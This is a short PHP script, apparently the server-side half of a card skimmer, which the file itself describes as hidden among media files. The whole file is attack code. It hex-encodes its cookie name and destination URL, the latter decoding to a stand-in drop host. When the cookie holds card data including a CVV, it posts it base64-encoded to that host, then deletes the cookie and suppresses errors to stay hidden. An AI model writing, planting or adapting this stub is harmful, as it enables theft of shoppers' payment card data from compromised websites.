<?php
// A drop stub hidden among media files: a cookie a browser-side skimmer filled with the card form is
// sent on to an address that is only written in hex.
try {
    $n = hex2bin('5f63617274');
    if (isset($_COOKIE[$n]) && strpos(hex2bin($_COOKIE[$n]), 'cvv') !== false) {
        @file_get_contents(
            hex2bin('68747470733a2f2f64726f702e6578616d706c652e696e76616c69642f'),
            false,
            stream_context_create(array(
                'http' => array(
                    'method' => 'POST',
                    'header' => "Content-type: application/x-www-form-urlencoded\r\n" .
                        'Cookie: t=' . base64_encode($_COOKIE[$n]) . "\r\n",
                    'content' => http_build_query(array('v' => '1')),
                ),
            ))
        );
        setcookie($n, '', time() - 3600, '/');
    }
} catch (Exception $e) {
}
